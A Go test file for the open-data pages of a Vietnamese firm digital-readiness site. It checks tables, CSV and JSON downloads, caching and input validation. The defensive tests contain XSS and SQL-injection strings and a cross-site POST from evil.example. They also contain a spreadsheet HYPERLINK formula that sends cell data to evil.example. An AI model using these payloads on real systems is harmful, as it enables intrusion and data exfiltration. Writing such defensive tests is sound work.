package web

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"html"
	"math"
	"net/http"
	"net/url"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"dxready/firms"
	"dxready/opendata"
	"dxready/scoring"
	"dxready/store"
	"dxready/store/storetest"
)

// q3 is the last ended quarter at the fixtures' clock (22/11/2026).
var q3 = scoring.Quarter{Year: 2026, Q: 3}

// openDataEnv is the fixtures with results in 2026-Q3: eight firms in
// ward 25813 (published), three in 25760 (fewer than 5: withheld); and the seven wood firms of the current
// quarter, which no quarterly table may show.
func openDataEnv(t *testing.T) *env {
	t.Helper()
	e := newEnv(t)
	in := storetest.Instrument(t)
	storetest.SevenWoodFirms(t, e.st, e.fx, in)
	var subs []store.PastSubmission
	add := func(ward string, i int) {
		f := *e.fx.NoiThat
		f.ID, f.TaxCode, f.Name, f.WardCode = 0, storetest.TaxCodeFrom(381000000+i*10), fmt.Sprintf("Công ty Quý Ba %d", i), ward
		if err := e.st.CreateFirm(ctx, &f); err != nil {
			t.Fatal(err)
		}
		score := float64(20 + 5*i)
		res := scoring.Result{Instrument: in.Key(), Overall: score, Level: int(score / 20),
			Pillars: []scoring.PillarScore{{PillarID: "customer", Score: score, Scored: true}}}
		subs = append(subs, store.PastSubmission{FirmID: f.ID, Result: res, SubmittedAt: time.Date(2026, 8, 10+i, 3, 0, 0, 0, time.UTC)})
	}
	for i := range 8 {
		add("25813", i)
	}
	for i := range 3 {
		add("25760", 8+i)
	}
	if err := e.st.LoadSubmissions(ctx, in, subs); err != nil {
		t.Fatal(err)
	}
	return e
}

func publicationOf(t *testing.T, e *env) *opendata.Publication {
	t.Helper()
	p, err := e.web.publication(ctx)
	if err != nil {
		t.Fatal(err)
	}
	return p
}

func TestDataCatalogueInBothLanguages(t *testing.T) {
	e := openDataEnv(t)
	c := e.client()
	vi := c.get("/data")
	must(t, vi, http.StatusOK, "Dữ liệu mở", "CC BY 4.0", "(GMT+7)", `href="/data/v1/readiness-by-ward"`, `href="/data/v1/readiness-by-ward.csv"`,
		`href="/data/methodology"`, `href="/data/catalog.jsonld"`, `id="chart-data-headline"`, "adoption-cloud-services-share")
	en := c.get("/data?lang=en")
	must(t, en, http.StatusOK, "Open data", "Digital readiness by ward, quarterly", "Participation by industry (VSIC section), to date",
		"Share adopting: cloud services in some departments or more", "Computed from the whole score")
	t.Log(en.body[strings.Index(en.body, "<main"):][:3000])
}

// The ward dataset's page at the last ended quarter: the published ward
// with its figures, the small one with its count and dashes, the chart of
// the mean by ward and of the province by quarter; other quarters and
// indicators by the form's plain GET.
func TestDatasetPageShowsTheTableAndCharts(t *testing.T) {
	e := openDataEnv(t)
	c := e.client()
	p := publicationOf(t, e)
	wards, _ := p.Table("readiness-by-ward")
	page := c.get("/data/v1/readiness-by-ward?lang=en")
	must(t, page, http.StatusOK, "Digital readiness by ward, quarterly", "Table at the end of Q3 2026", `id="chart-data-groups"`, `id="chart-data-trend"`,
		`id="null-note"`, "Withheld: the group has fewer than 5 firms", `href="/data/v1/readiness-by-ward.csv"`, `<option value="2026-Q3" selected>`)
	w25813, _ := e.web.ref.Ward("25813")
	w25760, _ := e.web.ref.Ward("25760")
	big, small := rowOf(t, page.body, "25813"), rowOf(t, page.body, "25760")
	if !strings.Contains(big, w25813.Name) {
		t.Errorf("ward 25813 (8 results) is not published in full: %s", big)
	}
	mean := valueAt(t, p, wards, q3, "25813", "overall-mean")
	if !strings.Contains(big, fmt.Sprintf("<td>%.1f</td>", mean.V)) {
		t.Errorf("ward 25813's row does not show its published mean %.1f: %s", mean.V, big)
	}
	if !strings.Contains(small, w25760.Name) || !strings.Contains(small, "<td>3</td>") || !strings.Contains(small, "–<sup>*</sup>") {
		t.Errorf("ward 25760 (3 results) does not show its count and dashes: %s", small)
	}
	// Vietnamese numbers on the Vietnamese page.
	vi := c.get("/data/v1/readiness-by-ward?lang=vi")
	must(t, vi, http.StatusOK, "Bảng số liệu cuối", strings.Replace(fmt.Sprintf("<td>%.1f</td>", mean.V), ".", ",", 1))
	must(t, c.get("/data/v1/readiness-by-ward?quarter=2026-Q2&indicator=level-1-share&lang=en"), http.StatusOK,
		"Table at the end of Q2 2026", `<option value="level-1-share" selected>`, "Share at level 1 by ward")
	must(t, c.get("/data/v1/readiness-by-province?indicator=estimate-overall-mean&lang=en"), http.StatusOK,
		"Estimated mean score, all firms: the province by quarter", "95% interval, lower bound")
	must(t, c.get("/data/v1/readiness-by-size?lang=en"), http.StatusOK, "Small")
	must(t, c.get("/data/v1/readiness-by-section?lang=en"), http.StatusOK, "Manufacturing")
	part := c.get("/data/v1/participation-by-ward?lang=en")
	must(t, part, http.StatusOK, "Participation by ward, to date", "Table to date", "Firms in the registry")
	if strings.Contains(part.body, `id="chart-data-trend"`) {
		t.Error("participation to date has a chart over quarters")
	}
}

// rowOf is the table row of group code on a dataset page.
func rowOf(t *testing.T, body, code string) string {
	t.Helper()
	i := strings.Index(body, "<tr><td><code>"+code+"</code>")
	if i < 0 {
		t.Fatalf("no row for %s", code)
	}
	j := strings.Index(body[i:], "</tr>")
	return body[i : i+j]
}

// valueAt is the publication's value of indicator id for a group at q.
func valueAt(t *testing.T, p *opendata.Publication, tb *opendata.Table, q scoring.Quarter, code, id string) opendata.Value {
	t.Helper()
	for _, r := range tb.Rows {
		if r.Quarter == q && r.Code == code {
			for i, ind := range tb.Indicators {
				if ind.ID == id {
					return r.Values[i]
				}
			}
		}
	}
	t.Fatalf("%s has no %s for %s at %s", tb.ID, id, code, q)
	return opendata.Value{}
}

// Addresses and queries that name nothing published get a localized 404
// or 400 in either language, never a 500, and never echo what was asked.
func TestDataBadInputIsRefusedPlainly(t *testing.T) {
	e := openDataEnv(t)
	c := e.client()
	for _, lang := range []string{"vi", "en"} {
		for path, msg := range map[string]string{"/data/v1/readiness-by-district": "page.data.error.no_dataset",
			"/data/v1/no-such.csv": "page.data.error.no_dataset", "/data/v1/no-such.json": "page.data.error.no_dataset",
			"/data/v1/readiness-by-ward.xml": "page.data.error.no_dataset", "/data/v2/readiness-by-ward": "error.not_found"} {
			r := c.get(path + "?lang=" + lang)
			must(t, r, http.StatusNotFound, html.EscapeString(e.web.bundle.For(lang).T(msg)))
		}
	}
	hostile := []string{"<script>alert(1)</script>", strings.Repeat("Q", 5000), "2026-Q3' OR '1'='1", "2026-Q3; DROP TABLE firms; --",
		"\"><img src=x onerror=alert(1)>", "%00", "2026-Q5", "1999-Q1"}
	for _, v := range hostile {
		for _, param := range []string{"quarter", "indicator"} {
			path := "/data/v1/readiness-by-ward?lang=en&" + param + "=" + url.QueryEscape(v)
			r := c.get(path)
			if r.status != http.StatusBadRequest {
				t.Errorf("GET %s = %d, want 400", path[:min(len(path), 80)], r.status)
			}
			if strings.Contains(r.body, "<script>alert") || strings.Contains(r.body, "<img src=x") {
				t.Errorf("GET %s echoes the value unescaped", path[:min(len(path), 80)])
			}
		}
	}
	must(t, c.get("/data/v1/readiness-by-ward?lang=en&quarter=2026-Q4"), http.StatusNotFound, "That quarter is not published")
	must(t, c.get("/data/v1/readiness-by-ward?lang=en&quarter=2020-Q1"), http.StatusNotFound, "That quarter is not published")
	// A participation table has no quarters: the parameter is not its.
	must(t, c.get("/data/v1/participation-by-ward?quarter=junk"), http.StatusOK)
	// A ward's table has no estimate: its indicator is not the table's.
	must(t, c.get("/data/v1/readiness-by-ward?lang=en&indicator=estimate-overall-mean"), http.StatusBadRequest,
		"The dataset has no such indicator")
	// Open data is read only: a POST is not allowed, cross-site or not.
	must(t, c.post("/data", nil), http.StatusMethodNotAllowed)
	must(t, c.post("/data/v1/readiness-by-ward.csv", nil, "Origin", "https://evil.example", "Sec-Fetch-Site", "cross-site"), http.StatusForbidden)
}

// The ward table's CSV: a byte-order mark, RFC 4180 with a header of
// machine names, a row per ward and quarter, the publication's values with
// a full stop and one decimal, empty fields for the withheld ward; the
// headers of a public, cacheable, versioned file; 304 on its ETag.
func TestDataCSV(t *testing.T) {
	e := openDataEnv(t)
	c := e.client()
	p := publicationOf(t, e)
	r := c.get("/data/v1/readiness-by-ward.csv?lang=en")
	must(t, r, http.StatusOK)
	checkDownloadHeaders(t, r, p, "readiness-by-ward", "csv", "text/csv; charset=utf-8")
	if !strings.HasPrefix(r.body, "\xEF\xBB\xBF") {
		t.Fatal("the CSV has no byte-order mark")
	}
	recs, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(r.body, "\xEF\xBB\xBF"))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	wards, _ := p.Table("readiness-by-ward")
	head := []string{"quarter", "ward_code", "ward_name_vi", "ward_name_en", "firms-assessed", "overall-mean", "level-0-share"}
	if strings.Join(recs[0][:len(head)], ",") != strings.Join(head, ",") || len(recs[0]) != 4+len(wards.Indicators) {
		t.Fatalf("header %v", recs[0])
	}
	if got, want := len(recs)-1, len(p.Codes(opendata.DimWard))*len(p.Quarters); got != want || want < 16 {
		t.Fatalf("%d rows, want %d (wards × quarters)", got, want)
	}
	col := func(name string) int { return slices.Index(recs[0], name) }
	mean := valueAt(t, p, wards, q3, "25813", "overall-mean")
	w, _ := e.web.ref.Ward("25760")
	for _, rec := range recs[1:] {
		switch {
		case rec[0] == "2026-Q3" && rec[1] == "25813":
			if rec[col("overall-mean")] != strconv.FormatFloat(mean.V, 'f', 1, 64) {
				t.Errorf("ward 25813's mean is %q in the CSV, %v published", rec[col("overall-mean")], mean.V)
			}
		case rec[0] == "2026-Q3" && rec[1] == "25760":
			if rec[col("firms-assessed")] != "3" || rec[col("overall-mean")] != "" || rec[col("level-2-share")] != "" || rec[2] != w.Name {
				t.Errorf("the withheld ward's row: %v", rec)
			}
		}
	}
	// The province's estimate carries its interval in two more columns.
	prov := c.get("/data/v1/readiness-by-province.csv")
	precs, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(prov.body, "\xEF\xBB\xBF"))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	i := slices.Index(precs[0], "estimate-overall-mean")
	last := precs[len(precs)-1]
	if i < 0 || precs[0][i+1] != "estimate-overall-mean_lo" || precs[0][i+2] != "estimate-overall-mean_hi" || last[i+1] == "" || last[3] != "Former Binh Duong province" {
		t.Errorf("the province's estimate columns: %v / %v", precs[0], last)
	}
	// Its ETag answers 304, with no body, as long as the figures stay.
	nm := c.get("/data/v1/readiness-by-ward.csv", "If-None-Match", r.header.Get("ETag"))
	if nm.status != http.StatusNotModified || nm.body != "" || nm.header.Get("ETag") != r.header.Get("ETag") {
		t.Errorf("If-None-Match: %d with %d bytes", nm.status, len(nm.body))
	}
	must(t, c.get("/data/v1/readiness-by-ward.csv", "If-None-Match", `"other", W/`+r.header.Get("ETag")), http.StatusNotModified)
	must(t, c.get("/data/v1/readiness-by-ward.csv", "If-None-Match", `"stale-readiness-by-ward-csv"`), http.StatusOK)
	must(t, c.get("/data/v1/readiness-by-ward.json", "If-None-Match", r.header.Get("ETag")), http.StatusOK) // another file
}

func checkDownloadHeaders(t *testing.T, r resp, p *opendata.Publication, id, format, ctype string) {
	t.Helper()
	tb, err := p.Table(id)
	if err != nil {
		t.Fatal(err)
	}
	// The file's tag is its table's: a quarterly file's does not move with
	// each day's participation counts.
	want := map[string]string{"Content-Type": ctype, "Cache-Control": "public, max-age=300", "Access-Control-Allow-Origin": "*",
		"ETag": fmt.Sprintf(`"%s-%s-%s"`, tb.ETag, id, format), "Last-Modified": p.ComputedAt.UTC().Format(http.TimeFormat),
		"Content-Disposition": fmt.Sprintf(`attachment; filename="dxready-%s-v1.%s"`, id, format)}
	for k, v := range want {
		if got := r.header.Get(k); got != v {
			t.Errorf("%s: %q, want %q", k, got, v)
		}
	}
}

// The JSON file holds what the CSV does: the same rows and values, null
// where withheld, and the estimates' intervals.
func TestDataJSON(t *testing.T) {
	e := openDataEnv(t)
	c := e.client()
	p := publicationOf(t, e)
	r := c.get("/data/v1/readiness-by-section.json")
	must(t, r, http.StatusOK)
	checkDownloadHeaders(t, r, p, "readiness-by-section", "json", "application/json; charset=utf-8")
	var f struct {
		Dataset    string
		Version    int
		Licence    string
		ComputedAt string `json:"computed_at"`
		Quarters   []string
		Indicators []struct {
			ID, Unit, Question, Kind, Arg string
			Estimate                      bool
		}
		Rows []struct {
			Quarter, Code string
			Values        map[string]*float64
			Intervals     map[string]struct{ Lo, Hi float64 }
		}
	}
	if err := json.Unmarshal([]byte(r.body), &f); err != nil {
		t.Fatal(err)
	}
	tb, _ := p.Table("readiness-by-section")
	if f.Dataset != tb.ID || f.Version != opendata.Version || f.Licence != opendata.Licence || f.ComputedAt != "2026-11-22T03:00:00Z" ||
		len(f.Quarters) != len(p.Quarters) || f.Quarters[len(f.Quarters)-1] != "2026-Q3" || len(f.Indicators) != len(tb.Indicators) ||
		len(f.Rows) != len(tb.Rows) {
		t.Fatalf("file: %+v", f)
	}
	cloud := slices.IndexFunc(f.Indicators, func(i struct {
		ID, Unit, Question, Kind, Arg string
		Estimate                      bool
	}) bool {
		return i.ID == "adoption-cloud-services-share"
	})
	if cloud < 0 || f.Indicators[cloud].Question != "inf.cloud" || f.Indicators[cloud].Kind != opendata.KindAdoptionShare {
		t.Errorf("the cloud indicator: %+v", f.Indicators)
	}
	for i, row := range f.Rows {
		want := tb.Rows[i]
		for j, ind := range tb.Indicators {
			got, v := row.Values[ind.ID], want.Values[j]
			switch {
			case v.Null && got != nil:
				t.Errorf("%s %s %s: %v, withheld", row.Quarter, row.Code, ind.ID, *got)
			case !v.Null && (got == nil || math.Abs(*got-v.V) > 0.05):
				t.Errorf("%s %s %s: %v, published %v", row.Quarter, row.Code, ind.ID, got, v.V)
			}
			if iv, ok := row.Intervals[ind.ID]; ok != (v.Interval && !v.Null) || (ok && math.Abs(iv.Lo-v.Lo) > 0.05) {
				t.Errorf("%s %s %s: interval %v, published %+v", row.Quarter, row.Code, ind.ID, iv, v)
			}
		}
	}
}

// The attack: a group whose name would be a spreadsheet formula (a code
// the reference does not know is its own name) is written as text.
func TestAttackDataCSVNeutralisesFormulas(t *testing.T) {
	e := newEnv(t)
	evil := `=HYPERLINK("http://evil.example/?"&A1,"click")`
	p := opendata.Build(opendata.Input{ComputedAt: storetest.Clock, Instrument: "dbi-2021@1", Quarters: []scoring.Quarter{q3},
		Counts: []opendata.Count{{Dimension: opendata.DimWard, Code: evil, Assessed: 3, Registry: 9}, {Dimension: opendata.DimWard, Code: "+1", Assessed: 1}}})
	tb, _ := p.Table("participation-by-ward")
	b, err := e.web.datasetCSV(p, tb)
	if err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(b, []byte("\xEF\xBB\xBF")))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for _, rec := range recs[1:] {
		for _, cell := range rec[1:4] {
			if strings.ContainsAny(cell[:1], "=+-@") {
				t.Errorf("a name cell starts a formula: %q", cell)
			}
		}
	}
	if recs[1][1] != "'"+"+1" || recs[2][1] != "'"+evil {
		t.Errorf("codes not kept as text: %v", recs)
	}
}

// Pages kept for signed-out visitors: a second visit gets the same page;
// a signed-in user gets their own header, never a kept page, nor leaves
// theirs behind; a refused query keeps nothing; a new publication drops
// every kept page.
func TestDataPagesKeptForSignedOutVisitorsOnly(t *testing.T) {
	e := openDataEnv(t)
	anon, admin := e.client(), e.client().login("admin@test.local")
	first := anon.get("/data/v1/readiness-by-ward?indicator=level-2-share&lang=en")
	must(t, first, http.StatusOK)
	if again := anon.get("/data/v1/readiness-by-ward?indicator=level-2-share&lang=en"); again.body != first.body {
		t.Error("a second signed-out visit gets another page")
	}
	mine := admin.get("/data/v1/readiness-by-ward?indicator=level-2-share&lang=en")
	must(t, mine, http.StatusOK, "admin@test.local")
	if strings.Contains(anon.get("/data/v1/readiness-by-ward?indicator=level-2-share&lang=en").body, "admin@test.local") {
		t.Fatal("a signed-out visitor gets the admin's page")
	}
	p := publicationOf(t, e)
	kept := func() (int, *opendata.Publication) {
		e.web.dataPages.mu.Lock()
		defer e.web.dataPages.mu.Unlock()
		return len(e.web.dataPages.pages), e.web.dataPages.pub
	}
	n, _ := kept()
	anon.get("/data/v1/readiness-by-ward?indicator=" + url.QueryEscape("<script>"))
	anon.get("/data/v1/readiness-by-ward?quarter=2026-Q3&junk=1")
	anon.get("/data?quarter=2026-Q3")
	if m, pub := kept(); m != n || pub != p {
		t.Errorf("refused or unknown queries were kept: %d pages, %d before", m, n)
	}
	// New figures: the next publication's pages, not the kept ones.
	e.web.published.cur.Store(opendata.Build(opendata.Input{ComputedAt: storetest.Clock.Add(time.Hour), Instrument: p.Instrument, Quarters: p.Quarters}))
	if body := anon.get("/data/v1/readiness-by-ward?indicator=level-2-share&lang=en").body; body == first.body || strings.Contains(body, "25813") {
		t.Error("a kept page outlived its publication")
	}
}

// The public finds open data in the header, and the size classes read
// smallest first; a signed-in user's header keeps to its role's pages.
func TestOpenDataInThePublicHeaderAndSizesInOrder(t *testing.T) {
	e := openDataEnv(t)
	must(t, e.client().get("/?lang=en"), http.StatusOK, `<li><a href="/data">Open data</a></li>`)
	must(t, e.client().get("/data?lang=en"), http.StatusOK, `<li><a href="/data" aria-current="page">Open data</a></li>`)
	if home := e.client().login("firm@test.local").get("/"); strings.Contains(home.body, `<li><a href="/data"`) {
		t.Error("a signed-in firm's header links open data")
	}
	p := publicationOf(t, e)
	tb, err := p.Table("participation-by-size")
	if err != nil {
		t.Fatal(err)
	}
	var got []string
	for _, r := range tb.Rows {
		got = append(got, r.Code)
	}
	want := []string{}
	for _, c := range firms.SizeClasses {
		if slices.Contains(got, string(c)) {
			want = append(want, string(c))
		}
	}
	if len(got) < 2 || !slices.Equal(got, want) {
		t.Errorf("size classes in the order %v, want %v", got, want)
	}
}
